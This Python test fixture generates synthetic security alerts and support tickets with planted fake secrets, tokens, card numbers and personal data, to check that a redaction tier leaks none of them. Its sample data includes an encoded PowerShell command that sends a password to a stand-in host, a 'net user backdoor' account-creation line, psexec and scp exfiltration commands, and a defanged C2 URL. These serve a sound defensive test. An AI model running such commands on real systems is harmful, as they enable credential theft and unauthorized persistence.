"""Alerts and tickets with planted secrets and personal data, to check that none of it is sent.

The values have the forms that they have in vendors' documents, command lines, URLs, mails and
chats. The forms follow from what the tier promises to keep inside. They do not follow from how
redaction searches for it.
"""

import base64
import html
import random
import re
import string
import unicodedata
from collections.abc import Callable, Iterable
from typing import Any
from urllib.parse import quote, unquote

import orjson

from schemas.event import Event

FIRST_NAMES = [
    "kari", "tomasz", "leila", "noor", "dana", "marcel", "ines", "yusuf", "greta", "oisin", "paulo",
    "hanneke", "rosalind", "bjorn",
]  # fmt: skip
LAST_NAMES = [
    "brandvold", "kowalczyk", "benyamina", "whitlock", "haraldsson", "abiola", "moreau", "oduya",
    "ferreira", "vandijk", "castellano",
]  # fmt: skip
MAIL_DOMAINS = [
    "corp.example.com",
    "example.org",
    "mail.example.net",
    "staff.acme-bank.example",
    "kunden.beispiel.de",
]
SECRET_WORDS = [
    "Tr0ub4dor&3", "hunter2!", "S0mmer2026", "correct-horse7", "Wint3r#Pass", "p4ssw0rd-Zx",
]  # fmt: skip
HEX_DIGITS = "0123456789abcdef"
PEM_START, PEM_END = "-----BEGIN RSA PRIVATE KEY-----", "-----END PRIVATE KEY-----"
SIGNATURE_START = "0f" * 6
ZERO_WIDTH = "\u200b"

Plant = tuple[str, list[str]]
"""What is written into the event, and the strings that must not be in what is sent."""


def planted_events(n: int, seed: int) -> list[tuple[Event, list[str]]]:
    """`n` events, each with the values that must not be sent; the same for the same seed."""
    rng = random.Random(seed)
    return [_SCENES[index % len(_SCENES)](rng, f"planted-{index}") for index in range(n)]


def arrived(planted: Iterable[str], outgoing: str) -> list[str]:
    """Which of `planted` can be read in `outgoing`, also after decoding it in common ways."""
    readings = _readings(outgoing)
    packed = ["".join(filter(str.isalnum, reading)) for reading in readings]
    return [value for value in planted if _is_readable(value.casefold(), readings, packed)]


def _readings(outgoing: str) -> list[str]:
    decoded = [outgoing, unquote(outgoing), unquote(unquote(outgoing)), html.unescape(outgoing)]
    decoded += [_unbase64(run) for run in re.findall(r"[A-Za-z0-9+/_-]{12,}={0,2}", outgoing)]
    decoded.append(outgoing.replace("\\\\", "\\").replace("\\n", "\n").replace('\\"', '"'))
    return [_visible(unicodedata.normalize("NFKC", text)).casefold() for text in decoded]


def _visible(text: str) -> str:
    return "".join(c for c in text if unicodedata.category(c) != "Cf")


def _unbase64(run: str) -> str:
    plain = run.replace("-", "+").replace("_", "/").rstrip("=")
    raw = base64.b64decode(plain[: len(plain) - (len(plain) % 4 == 1)] + "==")
    return raw.replace(b"\x00", b"").decode("utf-8", "ignore")


def _is_readable(value: str, readings: list[str], packed: list[str]) -> bool:
    compact = "".join(filter(str.isalnum, value))
    if len(compact) >= 9 and any(compact in reading for reading in packed):
        return True
    word = re.compile(rf"(?<![^\W_]){re.escape(value)}(?![^\W_])")
    return any(value in reading and word.search(reading) for reading in readings)


# --- one value of each kind


def login(rng: random.Random) -> str:
    """A user name as in a directory of users."""
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    number = rng.randint(10, 99)
    return rng.choice(
        [f"{first}.{last}", f"{first[0]}.{last}", f"adm_{first[0]}{last}", f"{last}{number}"]
    )


def host(rng: random.Random) -> str:
    """A machine's name, with or without its domain."""
    site = rng.choice(["HYPERV", "ACC-LT", "FILESRV", "web-prod", "mba", "SRV-APP", "kiosk", "DC"])
    name = f"{site}-{rng.randint(10, 9999)}"
    return rng.choice([name, f"{name}.corp.example.com"])


def email(rng: random.Random) -> Plant:
    """An e-mail address in one of the usual spellings."""
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    suffix = rng.choice(["", str(rng.randint(1, 99)), "+bank"])
    local = f"{first}.{last}{suffix}"
    domain = rng.choice(MAIL_DOMAINS)
    plain = f"{local}@{domain}"
    written = rng.choice(
        [
            plain,
            plain,
            plain.upper(),
            f"<{plain}>",
            f"mailto:{plain}",
            f"{local}%40{domain}",
            f"{local} [at] {domain}",
            f"{local}(at){domain.replace('.', '[.]')}",
            f"{local}&#64;{domain}",
            f"{local}&#x40;{domain}",
            f"{local}\uff20{domain}",
            f"{local[:3]}{ZERO_WIDTH}{local[3:]}@{domain}",
            "".join(map(_full_width, plain)),
            f"https://shop.example.com/unsubscribe?u={quote(plain, safe='')}&c=9",
        ]
    )
    return written, [plain, local]


def _full_width(character: str) -> str:
    if character.isascii() and character.isalnum():
        return chr(ord(character) + 0xFEE0)
    return character


def phone(rng: random.Random) -> Plant:
    """A telephone number as people in several countries write it."""
    tail = rng.randint(1000, 9999)
    written = rng.choice(
        [
            f"+44 20 7946 {tail}",
            f"020 7946 {tail}",
            f"+1 (212) 736-{tail}",
            f"212-736-{tail}",
            f"(212) 736 {tail}",
            f"212.736.{tail}",
            f"+55 11 98765-{tail}",
            f"(11) 98765-{tail}",
            f"+49 30 9018 {tail}",
            f"030 9018{tail}",
            f"0049 30 9018{tail}",
            f"+353 1 555 {tail}",
            f"06 12 34 {str(tail)[:2]} {str(tail)[2:]}",
            f"+33612{tail}34",
            f"+34 612 34 {str(tail)[:2]} {str(tail)[2:]}",
            f"+44\u00a020\u20117946\u2011{tail}",
        ]
    )
    return written, [written, "".join(filter(str.isdigit, written))]


def card(rng: random.Random) -> Plant:
    """A payment card that passes the Luhn check."""
    prefix, length = rng.choice(
        [("4", 16), ("51", 16), ("2223", 16), ("34", 15), ("6011", 16), ("36", 14)]
    )
    digits = prefix + "".join(rng.choices(string.digits, k=length - len(prefix) - 1))
    total = sum(sum(divmod(int(d) * (2 - i % 2), 10)) for i, d in enumerate(reversed(digits)))
    digits += str(-total % 10)
    groups = [digits[i : i + 4] for i in range(0, length, 4)]
    written = rng.choice(
        [digits, " ".join(groups), "-".join(groups), ".".join(groups), "\u2009".join(groups)]
    )
    return written, [digits]


def ssn(rng: random.Random) -> Plant:
    """A US social security number."""
    parts = (
        f"{rng.randint(100, 665)}",
        f"{rng.randint(10, 99)}",
        f"{rng.randint(1000, 9999)}",
    )
    written = rng.choice(["-", " ", "\u2013"]).join(parts)
    return rng.choice(
        [written, f"SSN {''.join(parts)}", f"social security number: {''.join(parts)}"]
    ), ["".join(parts)]


def iban(rng: random.Random) -> Plant:
    """An account number with valid check digits."""
    country, account = rng.choice(
        [
            ("DE", "".join(rng.choices(string.digits, k=18))),
            ("GB", "NWBK" + "".join(rng.choices(string.digits, k=14))),
            ("FR", "".join(rng.choices(string.digits, k=23))),
            ("PT", "".join(rng.choices(string.digits, k=21))),
            ("BR", "".join(rng.choices(string.digits, k=23)) + "P1"),
        ]
    )
    number = int("".join(str(int(c, 36)) for c in f"{account}{country}00"))
    plain = f"{country}{98 - number % 97:02d}{account}"
    grouped = " ".join(plain[i : i + 4] for i in range(0, len(plain), 4))
    return rng.choice([plain, grouped, plain.lower(), grouped.replace(" ", "-")]), [plain]


def ip(rng: random.Random) -> Plant:
    """An IPv4 or IPv6 address: plain, with a port or a prefix length, or defanged."""
    plain = f"{rng.choice([10, 172, 192, 203, 85])}.{plain_ip(rng).split('.', 1)[1]}"
    six = f"2001:db8:{rng.randint(16, 65535):x}::{rng.randint(16, 65535):x}"
    written, value = rng.choice(
        [
            (plain, plain),
            (f"{plain}:{rng.randint(1024, 65535)}", plain),
            (f"{plain}/24", plain),
            (f"[{plain}]", plain),
            (plain.replace(".", "[.]"), plain),
            (f"hxxp://{plain.replace('.', '[.]')}/gate.php", plain),
            (f"::ffff:{plain}", plain),
            (six, six),
            (f"[{six}]:443", six),
            (f"{six}/64", six),
            (six.upper(), six),
        ]
    )
    return written, [value]


def mac(rng: random.Random) -> Plant:
    """A hardware address in pairs or in groups of four."""
    pairs = [f"{rng.randint(0, 255):02x}" for _ in range(6)]
    cisco = ".".join("".join(pairs[i : i + 2]) for i in (0, 2, 4))
    written = rng.choice([":".join(pairs), "-".join(pairs).upper(), cisco])
    return written, [":".join(pairs), "".join(pairs)]


def _letters(
    rng: random.Random, count: int, alphabet: str = string.ascii_letters + string.digits
) -> str:
    return "".join(rng.choices(alphabet, k=count))


def jwt(rng: random.Random) -> str:
    """A signed token, as in an HTTP header."""

    def part(value: object) -> str:
        return base64.urlsafe_b64encode(orjson.dumps(value)).decode().rstrip("=")

    header, claims = (
        part({"alg": "HS256", "typ": "JWT"}),
        part({"sub": login(rng), "iat": 1773644422}),
    )
    return f"{header}.{claims}.{_letters(rng, 43)}"


def _slack_id(rng: random.Random) -> int:
    return rng.randint(10**11, 10**12)


def token(rng: random.Random) -> str:
    """A key of a common service, in the shape that the service gives its keys."""
    upper = string.ascii_uppercase + string.digits
    tokens: list[Callable[[], str]] = [
        lambda: "AKIA" + _letters(rng, 16, upper),
        lambda: "ASIA" + _letters(rng, 16, upper),
        lambda: "AIza" + _letters(rng, 35),
        lambda: "ya29." + _letters(rng, 60),
        lambda: "ghp_" + _letters(rng, 36),
        lambda: "github_pat_" + _letters(rng, 22) + "_" + _letters(rng, 59),
        lambda: "glpat-" + _letters(rng, 20),
        lambda: f"xoxb-{_slack_id(rng)}-{_slack_id(rng)}-{_letters(rng, 24)}",
        lambda: "sk_live_" + _letters(rng, 24),
        lambda: "rk_live_" + _letters(rng, 24),
        lambda: "sk-proj-" + _letters(rng, 48),
        lambda: "sk-ant-api03-" + _letters(rng, 80) + "AA",
        lambda: "npm_" + _letters(rng, 36),
        lambda: "pypi-AgEIcHlwaS5vcmc" + _letters(rng, 70),
        lambda: "SK" + _letters(rng, 32, HEX_DIGITS),
        lambda: "SG." + _letters(rng, 22) + "." + _letters(rng, 43),
        lambda: f"{rng.randint(10**9, 10**10 - 1)}:AA" + _letters(rng, 33),
        lambda: _letters(rng, 40) + "/" + _letters(rng, 20),
        lambda: _letters(rng, 3) + "8Q~" + _letters(rng, 34),
        lambda: jwt(rng),
    ]
    return rng.choice(tokens)()


def password(rng: random.Random) -> str:
    """A password that a person chose, or one from a generator."""
    return rng.choice(
        [rng.choice(SECRET_WORDS) + str(rng.randint(10, 99)), _letters(rng, 14) + "!7a"]
    )


def secret(rng: random.Random) -> Plant:
    """A secret in a place where people and programs write secrets."""
    word, key = password(rng), token(rng)
    url_word = _letters(rng, 12)
    signature = SIGNATURE_START + _letters(rng, 52, HEX_DIGITS)
    account_key = url_word + _letters(rng, 48)
    session_id, key_line = _letters(rng, 32), _letters(rng, 40)
    written, value = rng.choice(
        [
            (f"the log has {key} in it", key),
            (f"Authorization: Bearer {key}", key),
            (f"Authorization: Basic {base64.b64encode(f'svc:{word}'.encode()).decode()}", word),
            (f"password={word}", word),
            (f"pwd: {word}", word),
            (f"my password is {word} and it does not work", word),
            (f'{{"api_key":"{key}","debug":true}}', key),
            (f"DB_PASSWORD='{word}' ./run.sh", word),
            (f"postgres://app:{url_word}@db.example.com:5432/prod", url_word),
            (f"https://deploy:{url_word}@git.example.com/repo.git", url_word),
            (f"GET /reset?token={url_word}&lang=en HTTP/1.1", url_word),
            (f"https://x.blob.example.net/b?sv=2024-01-01&sig={quote(key, safe='')}", key),
            (f"https://s3.example.com/o?X-Amz-Signature={signature}", SIGNATURE_START),
            (
                f"DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={account_key}==;",
                url_word,
            ),
            (f"mysql -u root -p{url_word} -h db1", url_word),
            (f"psexec \\\\SRV -u admin -p {url_word} cmd.exe", url_word),
            (f"./deploy --user ci --password {word} --force", word),
            (f"net user backdoor {word} /add", word),
            (f"curl -u svc:{url_word} https://api.example.com/v1", url_word),
            (f"Cookie: JSESSIONID={session_id}; cart={url_word}", url_word),
            (f"{PEM_START}\nMIIE{key_line}\n{url_word}\n{PEM_END}", url_word),
            (f"Server=db;Database=crm;User Id=app;Password={word};Encrypt=true", word),
            (f"aws_secret_access_key = {url_word}/{_letters(rng, 27)}", url_word),
        ]
    )
    return written, [value]


_KINDS: list[Callable[[random.Random], Plant]] = [email, phone, card, ssn, iban, ip, mac, secret]

# --- events with the values in them


def _sentences(rng: random.Random, plants: Iterable[Plant]) -> str:
    frames = [
        "The analyst noted {} in the case.",
        "Seen twice today: {}",
        "({}) was in the attachment",
        "please look at {} quickly, thank you",
        "value='{}'",
        "It said: {}\nand then nothing more.",
    ]
    return " ".join(rng.choice(frames).format(written) for written, _ in plants)


def _some(rng: random.Random, count: int) -> list[Plant]:
    return [kind(rng) for kind in rng.sample(_KINDS, count)]


def _values(plants: Iterable[Plant]) -> list[str]:
    return [value for _, values in plants for value in values]


def _windows(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, machine, word = login(rng), host(rng), password(rng)
    address, _ = ip(rng)
    plants = _some(rng, 2)
    source_address = plain_ip(rng)
    document = {
        "Channel": "Security",
        "EventID": 4688,
        "Computer": machine,
        "EventData": {
            "TargetUserName": user,
            "SubjectUserName": f"CORP\\{user}",
            "IpAddress": source_address,
            "CommandLine": f'C:\\Users\\{user}\\run.exe /user:{user} --password "{word}" {address}',
        },
    }
    text = (
        f"{user.upper()} started run.exe on {machine.lower()} as CORP\\{user}. "
        f"{_sentences(rng, plants)}"
    )
    event = Event(
        id=id_,
        kind="alert",
        title=f"Process on {machine}",
        text=text,
        event=document,
        source="sysmon",
    )
    return event, [user, machine, source_address, word, *_values(plants)]


def plain_ip(rng: random.Random) -> str:
    """An IPv4 address without a port or brackets."""
    return f"10.{rng.randint(16, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _cloudtrail(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, address, key = login(rng), plain_ip(rng), token(rng)
    plants = _some(rng, 2)
    mail, mails = email(rng)
    document = {
        "eventSource": "iam.amazonaws.com",
        "eventName": "CreateAccessKey",
        "sourceIPAddress": address,
        "userIdentity": {
            "type": "IAMUser",
            "userName": user,
            "arn": f"arn:aws:iam::123456789012:user/{user}",
            "sessionContext": {"sessionIssuer": {"userName": user}},
        },
        "requestParameters": {"note": _sentences(rng, plants), "tags": {mail: "owner"}},
        "responseElements": {"accessKey": {"secretAccessKey": key, "status": "Active"}},
    }
    body = f"Someone at {address} used {user}'s key; {user} denies it."
    event = Event(
        id=id_, kind="alert", title="New access key", body=body, event=document, source="cloudtrail"
    )
    return event, [user, address, key, *mails, *_values(plants)]


def _ecs(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, machine = login(rng), host(rng)
    number, numbers = card(rng)
    _, phones = phone(rng)
    social = f"{rng.randint(100, 665)}{rng.randint(10, 99)}{rng.randint(1000, 9999)}"
    address, hardware = plain_ip(rng), mac(rng)
    document = {
        "host": {"name": machine, "ip": [address], "mac": hardware[0], "os": {"name": "Windows"}},
        "user.name": user,
        "process": {
            "command_line": f"scp /home/{user}/dump.sql {user}@{address}:/tmp/",
            "pid": 4711,
        },
        "fields": {"card_number": int(numbers[0]), "ssn": int(social), "phone": int(phones[1])},
        "matches": [
            {"value": number},
            {"value": int(numbers[0])},
            [[{"deep": {"deeper": address}}]],
        ],
        "message": f"sshd[811]: Accepted password for {user} from {address} port 51544 ssh2",
    }
    event = Event(
        id=id_, kind="alert", text=f"{machine}: data staged by {user}", event=document, source="ecs"
    )
    return event, [user, machine, address, social, phones[1].lstrip("0"), *numbers, *hardware[1]]


def _encoded(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    mail, word, user = f"{login(rng)}@{rng.choice(MAIL_DOMAINS)}", password(rng), login(rng)
    number = card(rng)[1][0]
    script = f"Invoke-WebRequest -Uri http://198.51.100.9/u={user} -Body password={word}"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    document = {
        "cmd": f"powershell.exe -nop -enc {blob}",
        "url": f"https://x.example.net/p?d={quote(quote(mail))}&q={quote(f'password={word}')}",
        "payload": base64.b64encode(orjson.dumps({"email": mail, "card": number})).decode(),
        "raw": orjson.dumps({"user": user, "nested": {"mail": mail}}).decode(),
        "actor": {"displayName": user.title(), "alternateId": mail},
        "cookie": base64.urlsafe_b64encode(f"{user}:{number}".encode()).decode(),
        f"seen {mail}": 3,
    }
    event = Event(
        id=id_, kind="alert", title="Encoded upload", event=document, attributes={"user": user}
    )
    return event, [mail, word, user, number]


def _okta(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    mail = f"{login(rng)}@{rng.choice(MAIL_DOMAINS)}"
    local = mail.partition("@")[0]
    address, machine = plain_ip(rng), host(rng)
    plants = _some(rng, 2)
    key = _letters(rng, 26)
    document = {
        "eventType": "user.session.start",
        "actor": {"type": "User", "alternateId": mail},
        "client": {"ipAddress": address, "device": {"name": machine}},
        "debugContext": {
            "debugData": {"sessionToken": key, "url": f"/login?fromURI={mail}"},
        },
        "target": [{"type": "User", "alternateId": mail}, _sentences(rng, plants)],
    }
    text = f"{local} signed in from {address} on {machine}."
    event = Event(id=id_, kind="alert", text=text, event=document, source="okta")
    return event, [mail, local, address, machine, key, *_values(plants)]


def _ticket(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    plants = _some(rng, 4)
    body = f"Hello,\n\nmy transfer is missing. {_sentences(rng, plants)}\n\nKind regards"
    mail, mails = email(rng)
    user = login(rng)
    attributes: dict[str, Any] = {"channel": "email", "from": mail, "user": user}
    event = Event(
        id=id_, kind="ticket", title="Where is my money", body=body, attributes=attributes
    )
    return event, [user, *mails, *_values(plants)]


def _chat(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    plants = _some(rng, 3)
    word, pin = password(rng), str(rng.randint(100_000, 999_999))
    text = f"hi my pw: {word} pin is {pin} pls help, {_sentences(rng, plants)}"
    event = Event(id=id_, kind="ticket", text=text, source="chat")
    return event, [word, pin, *_values(plants)]


def _syslog(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
    user, machine, address = login(rng), host(rng), plain_ip(rng)
    plants = _some(rng, 2)
    text = (
        f'action=login user={user} host={machine} src={address} msg="failed for {user}" '
        f"{_sentences(rng, plants)}"
    )
    event = Event(id=id_, kind="alert", text=text, source="firewall")
    return event, [user, machine, address, *_values(plants)]


_SCENES = [_windows, _cloudtrail, _ecs, _encoded, _okta, _ticket, _chat, _syslog]
